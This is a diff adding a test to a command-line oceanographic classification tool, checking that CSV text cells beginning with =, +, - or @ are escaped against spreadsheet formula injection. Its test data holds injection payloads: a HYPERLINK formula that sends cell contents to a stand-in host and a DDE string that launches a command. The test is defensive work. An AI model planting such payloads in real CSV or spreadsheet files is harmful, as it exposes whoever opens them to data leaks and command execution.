@@ -232,3 +232,48 @@ def test_csv_has_its_provenance_in_a_json_beside_it(sar_tree, sar_model, tmp_pat
     # a .nc has its provenance in its attributes: no sidecar
     res = invoke("classify", "--model", sar_model.name, sar_tree / "F", "-o", tmp_path / "p.nc", "--quiet")
     assert res.exit_code == 0 and not (tmp_path / "p.nc.json").exists()
+
+
+# ------------------------------------------------------------------ 4. formula cells in the CSV
+def test_csv_text_cells_are_never_formulas(tree_model, tmp_path, monkeypatch):
+    """Class names come from a checkpoint's config.json and paths from an archive, both from others:
+    a class '=HYPERLINK(...)' or a folder '@evil' was a formula when the CSV was opened in a
+    spreadsheet. Text cells beginning with =, +, -, @ (not numbers) get a leading ', the numeric
+    columns are written as they were, and the .nc and the JSON keep the names unchanged."""
+    import csv
+
+    from fakes import edit_checkpoint_config
+
+    root, model = tree_model
+    names = ['=HYPERLINK("x.example?"&A1)', "-2+3+cmd|' -C calc'!A0", "-1.5"]
+    evil = edit_checkpoint_config(model, tmp_path / "evil", classes=names)
+    shutil.copytree(root / "calm", tmp_path / names[0])  # labelled by the first class
+    shutil.copytree(root / "eddy", tmp_path / "@evil")
+    monkeypatch.chdir(tmp_path)  # relative paths: the path cells begin with the folder's name
+    res = invoke("classify", "--model", "evil", names[0], "@evil", "-o", "p.csv",
+                 "--quiet")
+    assert res.exit_code == 0, res.output
+    res = invoke("classify", "--model", "evil", names[0], "@evil", "-o", "p.nc",
+                 "--quiet")
+    assert res.exit_code == 0, res.output
+    with open("p.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    with xr.open_dataset("p.nc") as nc:
+        assert len(rows) == nc.sizes["sample"] == 8
+        for row, path, pred, true in zip(rows, nc["path"].values, nc["predicted"].values, nc["true_class"].values):
+            assert row["path"] == "'" + path and path[0] in "=@"
+            want = pred if pred in ("-1.5", "unassigned") else "'" + pred
+            assert row["predicted"] == want
+            assert row["true_class"] == ("'" + true if true else "")
+        assert set(nc["true_class"].values) == {names[0], ""}
+        # numbers as they were: the labels, the probabilities to 5 decimals
+        df = pd.read_csv("p.csv")
+        np.testing.assert_array_equal(df["label"], nc["label"].values)
+        np.testing.assert_allclose(df["probability"], nc["probability"].values, atol=5e-6)
+        np.testing.assert_allclose(df[[f"p_{c}" for c in names]], nc["probabilities"].values, atol=5e-6)
+    assert json.loads(Path("p.csv.json").read_text())["classes"] == names
+    from oceandl.cli.main import _no_formula
+
+    assert [_no_formula(v) for v in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-1.5", "+3", "-inf", "a=b",
+                                     "", 3)] == ["'=1+1", "'+A1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "-1.5", "+3",
+                                                "-inf", "a=b", "", 3]
